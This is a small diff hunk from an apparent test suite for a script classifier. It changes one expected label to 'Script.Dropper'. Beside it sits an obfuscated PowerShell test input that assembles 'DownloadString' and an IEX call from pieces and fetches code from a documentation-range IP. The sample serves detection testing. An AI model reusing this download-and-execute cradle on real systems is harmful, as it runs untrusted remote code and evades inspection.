@@ -547,7 +547,7 @@ suite('a text that is a script', () => {
     ],
     [
       'in PowerShell from letters',
-      'Script.Program',
+      'Script.Dropper',
       '$a="DownloadStr"+"ing"; $w=[Activator]::CreateInstance($t); .($env:ComSpec[4,15,25]-join"") $w.$a("http://203.0.113.4/x")\n',
     ],
     [
